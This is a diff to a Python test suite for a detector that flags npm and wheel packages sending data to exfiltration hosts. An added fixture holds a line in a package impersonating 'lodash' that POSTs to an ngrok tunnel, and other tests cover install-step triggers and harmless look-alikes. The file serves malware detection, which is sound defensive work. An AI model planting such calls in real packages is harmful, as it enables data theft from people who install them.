@@ -89,6 +89,11 @@ class TestAlarm:
         assert severities(npm({"index.js": source})) == ["medium"]
         assert severities(npm({"a.js": source}, scripts={"postinstall": "node a.js"})) == ["high"]
 
+    def test_a_package_that_calls_its_drop_by_its_own_name_is_told(self) -> None:
+        artifact = npm({"index.js": "fetch('https://lodash.ngrok.io/', { method: 'POST' });"})
+        (found,) = exfiltration_host.detect(Specimen(Package.parse("npm/lodash@4.0.0"), artifact))
+        assert found.severity == "high"
+
     def test_a_package_of_the_service_s_name_is_told_in_an_install_step(self) -> None:
         artifact = npm({"a.js": JAVASCRIPT[0]}, scripts={"postinstall": "node a.js"})
         (found,) = exfiltration_host.detect(Specimen(Package.parse("npm/discord-tools@1.0.0"), artifact))
@@ -139,6 +144,10 @@ class TestInnocentTwin:
     def test_the_machine_s_own_address_is_found_by_asking_a_resolver(self) -> None:
         source = "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('8.8.8.8', 80))\nprint(s.getsockname()[0])\n"
         assert findings(exfiltration_host, wheel({"imgpress/__init__.py": source})) == []
+
+    def test_an_invitation_that_an_install_step_prints(self) -> None:
+        source = "console.log('Join us: https://discord.com/invite/x');"
+        assert findings(exfiltration_host, npm({"a.js": source}, scripts={"postinstall": "node a.js"})) == []
 
     def test_an_address_that_is_only_named_is_told_softly(self) -> None:
         source = "HELP = 'paste the report to https://pastebin.com/ and open an issue'\n"
